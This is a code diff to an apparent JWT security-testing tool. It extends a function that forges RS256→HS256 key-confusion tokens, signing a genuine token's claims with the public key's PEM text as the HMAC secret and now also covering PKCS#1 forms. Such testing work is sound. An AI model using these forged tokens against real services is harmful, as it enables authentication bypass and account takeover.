@@ -47,20 +47,21 @@ export function hs256(header: Record<string, unknown>, payloadSegment: string, s
   return `${signingInput}.${createHmac('sha256', secret).update(signingInput).digest('base64url')}`;
 }
 
-/** The public key of a JWK as PEM (SPKI) text: what a confused verifier takes as its HMAC secret. */
-export function publicKeyPem(jwk: JsonWebKey): string {
-  return createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString();
+/** The public key of a JWK as PEM text (SPKI, or for RSA also PKCS#1): what a confused verifier takes as its HMAC secret. */
+export function publicKeyPem(jwk: JsonWebKey, type: 'spki' | 'pkcs1' = 'spki'): string {
+  return createPublicKey({ key: jwk, format: 'jwk' }).export({ type, format: 'pem' }).toString();
 }
 
 /**
  * The genuine token's claims signed HS256 with the public key's PEM text as the secret
- * (RFC 8725 §2.1's RS256 → HS256 confusion): with and without the PEM's final newline, as
- * verifiers read key files either way.
+ * (RFC 8725 §2.1's RS256 → HS256 confusion): SPKI (`BEGIN PUBLIC KEY`) and, for RSA, PKCS#1
+ * (`BEGIN RSA PUBLIC KEY`), each with and without its final newline, as servers keep key
+ * files in either form and read them either way.
  */
 export function forgeKeyConfusion(jwt: DecodedJwt, jwk: JsonWebKey): string[] {
-  const pem = publicKeyPem(jwk);
+  const pems = [publicKeyPem(jwk), ...(jwk.kty === 'RSA' ? [publicKeyPem(jwk, 'pkcs1')] : [])];
   const header = { ...jwt.header, alg: 'HS256' };
-  return [...new Set([pem, pem.trimEnd()])].map((secret) => hs256(header, jwt.segments[1], secret));
+  return [...new Set(pems.flatMap((pem) => [pem, pem.trimEnd()]))].map((secret) => hs256(header, jwt.segments[1], secret));
 }
 
 /** The genuine token with one bit of its signature flipped (in the middle, where no padding bits lie). */
